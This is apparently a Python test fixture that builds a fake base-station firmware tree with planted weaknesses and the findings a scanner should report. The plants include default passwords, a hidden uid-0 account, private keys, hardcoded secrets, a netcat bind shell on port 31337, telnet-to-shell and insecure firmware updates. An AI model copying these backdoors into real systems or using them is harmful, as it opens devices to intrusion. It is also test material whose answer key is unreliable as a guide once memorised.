# SPDX-License-Identifier: Apache-2.0
"""The base station's own configuration, and the weaknesses planted in it. Each function writes the files of
one topic as a vendor would, and notes beside them what must be found."""
import gzip

from . import sample
from .plant import fixture

PASSWD = """root:x:0:0:root:/root:/bin/sh
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
admin:x:1000:1000:Administrator:/home/admin:/bin/sh
service:x:1001:1001:Field service:/home/service:/bin/sh
support:x:1002:1002:Support:/home/support:/bin/sh
sysop:x:0:0::/:/bin/sh
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
"""
SHADOW = """root:$6$assaybts$OeOfc7JK..TAUEBmsr/nOK8QftN4UmvrMIZW5l2NsI4hGP0Gy5rCLchCBehQjWdlMICRcO9TZg6bbL2Z3KpjI1:19000:0:99999:7:::
daemon:*:19000:0:99999:7:::
www-data:*:19000:0:99999:7:::
sshd:!:19000:0:99999:7:::
admin:$1$factory1$RNxAae/Qy7EA.kARsv/FA0:19000:0:99999:7:::
service::19000:0:99999:7:::
support:abCd/TwcbI2yg:19000:0:99999:7:::
sysop:$6$Qh7Zr0aX$notarealhashnotarealhashnotarealhashnotarealhashnotarealhashnotarealhashnotarealhash00:19000:0:99999:7:::
nobody:*:19000:0:99999:7:::
"""
HTPASSWD = "admin:$apr1$web12345$vFxgKzuiwzX8RmxmysjMJ/\n"


def accounts(t, p):
	t.file("etc/passwd", PASSWD)
	t.file("etc/shadow", SHADOW, 0o640, 0, 42)
	t.file("etc/group", "root:x:0:\ndaemon:x:1:\nwww-data:x:33:\nshadow:x:42:\nadmin:x:1000:\n"
		"service:x:1001:\nsupport:x:1002:\nnogroup:x:65534:\n")
	t.file("etc/lighttpd/htpasswd", HTPASSWD, 0o640, 0, 33)
	for uid, user in enumerate(("admin", "service", "support"), 1000):
		t.dir("home/" + user, 0o700, uid, uid)
	p.note("bts-root-root", "default-credential", "etc/shadow", "root has the factory password root",
		"account", "user='root' AND guessed='root'", SHADOW.split(":")[1], "sha512crypt")
	p.note("bts-admin-admin", "default-credential", "etc/shadow", "admin has the factory password admin",
		"account", "user='admin' AND guessed='admin'", "$1$factory1$RNxAae/Qy7EA.kARsv/FA0", "md5crypt")
	p.note("bts-service-empty", "default-credential", "etc/shadow", "service has an empty password",
		"account", "user='service' AND scheme='empty'", "service::", "shell /bin/sh")
	p.note("bts-web-admin", "default-credential", "etc/lighttpd/htpasswd",
		"the web page's admin has the password admin", "account", "user='admin' AND guessed='admin'",
		"$apr1$web12345$vFxgKzuiwzX8RmxmysjMJ/", "Apache md5crypt")
	p.note("bts-support-des", "weak-crypto", "etc/shadow", "a password hash of DES crypt", "account",
		"user='support' AND scheme='des'", "abCd/TwcbI2yg", "the password is support")
	p.note("bts-sysop", "backdoor-indicator", "etc/passwd", "a second account with uid 0", "account",
		"user='sysop' AND uid=0", "sysop:x:0:0", "no name, home is /")
	t.file("etc/sudoers.d/service", "service ALL=(ALL) NOPASSWD: ALL\n", 0o440)
	p.note("bts-sudo", "excessive-privilege", "etc/sudoers.d/service",
		"an account without password may do all as root", "setting", "value LIKE '%NOPASSWD%'",
		"service ALL=(ALL) NOPASSWD: ALL")


def keys(t, p):
	web = fixture("web.pem")
	t.file("etc/lighttpd/server.pem", web, 0o644)
	p.note("bts-web-key", "private-key", "etc/lighttpd/server.pem",
		"RSA private key, with its certificate in the same file", "key",
		"part='private' AND format='pem-pkcs1' AND bits=2048",
		web[:web.index(b"-----END RSA") + 29], "readable by all")
	for type in ("rsa", "ed25519"):
		path = "etc/dropbear/dropbear_%s_host_key" % type
		t.file(path, fixture("dropbear_%s_host_key" % type), 0o600)
		p.note("bts-dropbear-" + type, "private-key", path, "dropbear host key, the same in every device",
			"key", "part='private' AND format='dropbear'", None, type)
	t.file("root/.ssh/id_rsa", fixture("id_rsa"), 0o600)
	t.dir("root", 0o700)
	p.note("bts-id-rsa", "private-key", "root/.ssh/id_rsa", "OpenSSH private key", "key",
		"part='private' AND format='openssh'", None, "no passphrase, 2048 bit RSA")
	t.file("etc/ipsec.d/private/bts.der", fixture("ipsec.der"), 0o600)
	p.note("bts-ipsec-der", "private-key", "etc/ipsec.d/private/bts.der", "PKCS#8 key in DER", "key",
		"part='private' AND format='der-pkcs8'", None, "EC P-256")
	t.file("root/.ssh/authorized_keys", fixture("factory.pub"), 0o600)
	p.note("bts-authorized", "backdoor-indicator", "root/.ssh/authorized_keys",
		"a key that may log in as root, the same in every device", "authorized_key",
		"comment LIKE '%factory%'", None, "maintenance@factory.example.net")
	t.file("etc/ssl/oam/oam.crt", fixture("oam-expired.crt"))
	t.file("etc/ssl/oam/oam.key", fixture("oam-expired.key"), 0o600)
	p.note("bts-oam-expired", "expired-certificate", "etc/ssl/oam/oam.crt",
		"the certificate of the management interface ended in 2018", "certificate",
		"not_after LIKE '2018-01-01%'", None, "CN=oam.example.net")
	p.note("bts-oam-key", "private-key", "etc/ssl/oam/oam.key", "the private key of that certificate",
		"key", "part='private' AND format='pem-pkcs8'", None, "matches etc/ssl/oam/oam.crt")
	t.file("etc/ssl/oam/portal.crt", fixture("sha1.crt"))
	p.note("bts-sha1", "weak-crypto", "etc/ssl/oam/portal.crt", "a certificate signed with SHA-1",
		"certificate", "signature LIKE 'sha1%'", None, "CN=portal.example.net")


HOSTAPD = """interface=wlan0
ssid=bts-maintenance
hw_mode=g
channel=6
wpa=1
wpa_key_mgmt=WPA-PSK
wpa_pairwise=TKIP
wpa_passphrase=Field-Service-77
ieee8021x=1
auth_server_addr=10.20.0.9
auth_server_port=1812
auth_server_shared_secret=r4d1us-Shared
"""
SNMPD = """agentAddress udp:161
rocommunity public
rwcommunity private 10.0.0.0/8
sysLocation mast
"""


def secrets(t, p):
	t.file("etc/hostapd/hostapd.conf", HOSTAPD, 0o600)
	p.note("bts-wifi", "secret-in-config", "etc/hostapd/hostapd.conf", "Wi-Fi passphrase", "secret",
		"kind='wifi-psk' AND value='Field-Service-77'", "wpa_passphrase=Field-Service-77")
	p.note("bts-radius", "secret-in-config", "etc/hostapd/hostapd.conf", "RADIUS shared secret", "secret",
		"kind='radius' AND value='r4d1us-Shared'", "auth_server_shared_secret=r4d1us-Shared")
	t.file("etc/ppp/chap-secrets", "# client server secret addresses\nbts0815 * \"Dial-1n\" *\n", 0o600)
	p.note("bts-chap", "secret-in-config", "etc/ppp/chap-secrets", "PPP secret", "secret",
		"kind='ppp' AND user='bts0815'", "bts0815 * \"Dial-1n\" *")
	t.file("etc/snmp/snmpd.conf", SNMPD, 0o644)
	p.note("bts-snmp-rw", "secret-in-config", "etc/snmp/snmpd.conf", "SNMP community that may write",
		"secret", "kind='snmp-community' AND value='private'", "rwcommunity private")
	p.note("bts-snmp-public", "insecure-service", "etc/snmp/snmpd.conf", "SNMP v1/v2c, community public",
		"secret", "kind='snmp-community' AND value='public'", "rocommunity public")
	t.file("etc/ipsec.secrets", ": PSK \"backhaul-psk-2019\"\n10.20.0.1 %any : PSK \"second-psk\"\n", 0o600)
	p.note("bts-ipsec-psk", "secret-in-config", "etc/ipsec.secrets", "IPsec pre-shared key", "secret",
		"kind='ipsec-psk' AND value='backhaul-psk-2019'", ": PSK \"backhaul-psk-2019\"")
	sshd = ("Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\nCiphers 3des-cbc,aes128-cbc\n"
		"KexAlgorithms diffie-hellman-group1-sha1\nMACs hmac-md5\n")
	t.file("etc/ssh/sshd_config", sshd)
	p.note("bts-ssh-ciphers", "weak-crypto", "etc/ssh/sshd_config", "weak ciphers for SSH", "setting",
		"name='Ciphers' AND value LIKE '3des-cbc%'", "Ciphers 3des-cbc,aes128-cbc")


INITTAB = """::sysinit:/etc/init.d/rcS
ttyS0::respawn:-/bin/sh
ttyS1::respawn:/sbin/getty -L ttyS1 115200 vt100
::respawn:/usr/sbin/telnetd -F -l /bin/login
::ctrlaltdel:/sbin/reboot
::shutdown:/bin/umount -a -r
"""
RCS = """#!/bin/sh
mount -t proc proc /proc
mount -t sysfs sysfs /sys
mount -o remount,ro /
for script in /etc/init.d/S??*; do
	[ -x "$script" ] && "$script" start
done
"""
INETD = """# service socket protocol wait user program arguments
tftp dgram udp wait root /usr/sbin/in.tftpd in.tftpd -c -s /var/tftp
ftp stream tcp nowait root /usr/sbin/ftpd ftpd -w /var/ftp
"""
STARTED = {
	"S20syslog": "/sbin/syslogd -R 10.20.0.2:514",
	"S30network": "/sbin/ifup -a",
	"S45inetd": "/usr/sbin/inetd",
	"S50dropbear": "/usr/sbin/dropbear -R -p 22",
	"S50snmpd": "/usr/sbin/snmpd -Lsd -c /etc/snmp/snmpd.conf",
	"S55lighttpd": "/usr/sbin/lighttpd -f /etc/lighttpd/lighttpd.conf",
	"S60osmo-bts": "/usr/bin/osmo-bts-virtual -D -c /etc/osmocom/osmo-bts-virtual.cfg",
	"S60osmo-bsc": "/usr/bin/osmo-bsc -D -c /etc/osmocom/osmo-bsc.cfg",
	"S65dnsmasq": "/usr/sbin/dnsmasq -C /etc/dnsmasq.conf",
	"S65hostapd": "/usr/sbin/hostapd -B /etc/hostapd/hostapd.conf",
	"S70netdiag": "/usr/sbin/telnetd -p 48101 -l /bin/sh",
	"S75debug": "/usr/bin/gdbserver --multi 0.0.0.0:2345 &",
	"S99diag": "while :; do nc -l -p 31337 -e /bin/sh; done &",
}
SCRIPT = """#!/bin/sh
case "$1" in
start)
	%s
	;;
esac
"""


def starting(t, p):
	t.file("etc/inittab", INITTAB)
	t.file("etc/init.d/rcS", RCS, 0o755)
	t.file("etc/inetd.conf", INETD)
	for name, command in STARTED.items():
		t.file("etc/init.d/" + name, SCRIPT % command, 0o755)
	p.note("bts-telnetd", "insecure-service", "etc/inittab", "telnetd starts", "autostart",
		"program LIKE '%telnetd' AND init='inittab'", "::respawn:/usr/sbin/telnetd -F -l /bin/login")
	p.note("bts-tftpd", "insecure-service", "etc/inetd.conf", "tftpd as root, clients may create files",
		"listener", "service='tftp'", "tftp dgram udp wait root")
	p.note("bts-ftpd", "insecure-service", "etc/inetd.conf", "ftpd as root, clients may write",
		"listener", "service='ftp'", "ftp stream tcp nowait root")
	p.note("bts-console", "debug-interface", "etc/inittab", "a root shell on the serial line, no login",
		"autostart", "name='ttyS0' AND program='/bin/sh'", "ttyS0::respawn:-/bin/sh")
	p.note("bts-gdbserver", "debug-interface", "etc/init.d/S75debug", "gdbserver on all addresses",
		"script_call", "program LIKE '%gdbserver%'", "gdbserver --multi 0.0.0.0:2345", "TCP port 2345")
	p.note("bts-nc", "backdoor-indicator", "etc/init.d/S99diag", "a shell for whoever connects",
		"script_call", "text LIKE '%31337%'", "nc -l -p 31337 -e /bin/sh", "TCP port 31337")
	p.note("bts-telnet-high", "undocumented-access", "etc/init.d/S70netdiag",
		"telnetd on an unusual port, straight to a shell", "script_call", "text LIKE '%48101%'",
		"/usr/sbin/telnetd -p 48101 -l /bin/sh", "TCP port 48101")


OAM = """#!/bin/sh
# performance data to the operations centre
OAM_USER=oam
OAM_PASSWORD='Omc-2019-upload'
case "$1" in
start)
	curl -k -u "$OAM_USER:$OAM_PASSWORD" -T /var/pm/latest.xml https://10.20.0.5/pm/
	wget -q -O /tmp/neighbours ftp://btsload:N3ighbour@10.20.0.6/cells/neighbours.csv
	;;
esac
"""
UPGRADE = """#!/bin/sh
# fetches the newest software and writes it to the second bank
set -e
wget -O /tmp/firmware.bin http://fw.bts-software.net/release/latest.bin
flash_erase /dev/mtd4 0 0
nandwrite -p /dev/mtd4 /tmp/firmware.bin
fw_setenv bank 2
reboot
"""


def updates(t, p):
	t.file("etc/init.d/S80oam", OAM, 0o755)
	p.note("bts-oam-password", "hardcoded-credential", "etc/init.d/S80oam", "a password in a script",
		"secret", "value LIKE '%Omc-2019-upload%'", "OAM_PASSWORD='Omc-2019-upload'")
	p.note("bts-url", "hardcoded-credential", "etc/init.d/S80oam", "a URL with user and password", "secret",
		"kind='url-credential' AND user='btsload'", "ftp://btsload:N3ighbour@10.20.0.6")
	p.note("bts-curl-k", "insecure-update", "etc/init.d/S80oam", "certificate checks switched off", "fetch",
		"tool='curl' AND verify='off'", "curl -k")
	t.file("usr/sbin/fw-upgrade", UPGRADE, 0o755)
	p.note("bts-upgrade", "insecure-update", "usr/sbin/fw-upgrade",
		"firmware over plain HTTP straight to flash", "fetch", "scheme='http' AND flashes=1",
		"wget -O /tmp/firmware.bin http://fw.bts-software.net/release/latest.bin")
	t.file("etc/init.d/S90local", SCRIPT % ". /etc/local.conf", 0o777)
	p.note("bts-writable-script", "excessive-privilege", "etc/init.d/S90local",
		"a script root starts and everyone may write", "place",
		"path='/etc/init.d/S90local' AND mode & 2", None, "mode 0777")


def binaries(t, p, legacy):
	t.file("usr/sbin/fieldtool", fixture("fieldtool-armhf"), 0o755)
	p.note("bts-fieldtool-hardening", "missing-hardening", "usr/sbin/fieldtool",
		"no PIE, executable stack, no RELRO, no canary", "elf", "pie=0 AND nx=0 AND relro='none'")
	p.note("bts-fieldtool-unsafe", "unsafe-function-use", "usr/sbin/fieldtool",
		"strcpy, strcat and sprintf on input, then system", "elf_import", "name='strcpy'")
	p.note("bts-fieldtool-build", "non-reproducible-build", "usr/sbin/fieldtool",
		"date, user, host and path of the build", "build_trace", "value LIKE '%/jenkins/%'",
		"/home/jenkins/workspace/bts-release")
	p.note("bts-fieldtool-runpath", "missing-hardening", "usr/sbin/fieldtool",
		"a library path in a world-writable folder", "elf", "COALESCE(runpath, rpath) LIKE '/tmp/%'",
		"/tmp/jenkins/workspace/bts-release/lib")
	t.file("usr/libexec/dbgsh", t["bin/busybox"].data, 0o4755, package=t["bin/busybox"].package,
		version=t["bin/busybox"].version)
	p.note("bts-setuid-shell", "excessive-privilege", "usr/libexec/dbgsh", "a setuid root shell", "place",
		"path='/usr/libexec/dbgsh' AND mode & 2048", None, "a copy of BusyBox, mode 4755")
	t.node("var/lib/mem", "char", 0o666, (1, 1))
	p.note("bts-node", "excessive-privilege", "var/lib/mem", "a device node outside /dev: main memory",
		"place", "path='/var/lib/mem' AND kind='char' AND major=1 AND minor=1", None, "mode 0666")
	for path, to in (("usr/lib/arm-linux-gnueabihf/libcrypto.so.1.1", "libcrypto.so.1.1"),
			("usr/lib/arm-linux-gnueabihf/libssl.so.1.1", "libssl.so.1.1")):
		old = legacy[path]
		t.file("opt/legacy/lib/" + to, old.data, 0o644, package=old.package, version=old.version)
	p.note("bts-old-openssl", "unsupported-component", "opt/legacy/lib/libcrypto.so.1.1",
		"OpenSSL 1.1.1, without support since September 2023", "component",
		"id='openssl' AND version LIKE '1.1.1%'", b"OpenSSL 1.1.1")
	old = legacy["bin/busybox"]
	t.file("opt/legacy/bin/busybox", old.data, 0o755, package=old.package, version=old.version)
	p.note("bts-old-busybox", "known-vulnerability", "opt/legacy/bin/busybox",
		"BusyBox 1.30.1, with published vulnerabilities (CVE-2021-42374 and its siblings)", "component",
		"id='busybox' AND version LIKE '1.30.1%'", b"BusyBox v1.30.1")


def unreadable(t, p):
	whole = gzip.compress(sample.noise(20000, b"backup"), 9, mtime=0)
	t.file("var/backup/config.gz", whole[:9000], 0o600)
	p.note("bts-truncated", "unexamined", "var/backup/config.gz", "a gzip that ends in the middle",
		"unexamined", "1")
	t.file("usr/share/vendor/provisioning.zip", fixture("secret.zip"))
	p.note("bts-encrypted-zip", "unexamined", "usr/share/vendor/provisioning.zip", "an encrypted zip",
		"unexamined", "1")


def decoys(tree):
	"""Nothing was planted here; it is in the packages and easily taken for something it is not."""
	why = "keys of the library's self-test: published, and no secret of this product"
	return [{"path": "/" + e.path, "kind": "private-key", "why": why} for e in tree if e.type == "file"
		and e.path.rsplit("/", 1)[-1].startswith(("libgnutls.so", "libmbedx509.so"))]


def all(t, p, legacy):
	for write in (accounts, keys, secrets, starting, updates):
		write(t, p)
	binaries(t, p, legacy)
	unreadable(t, p)
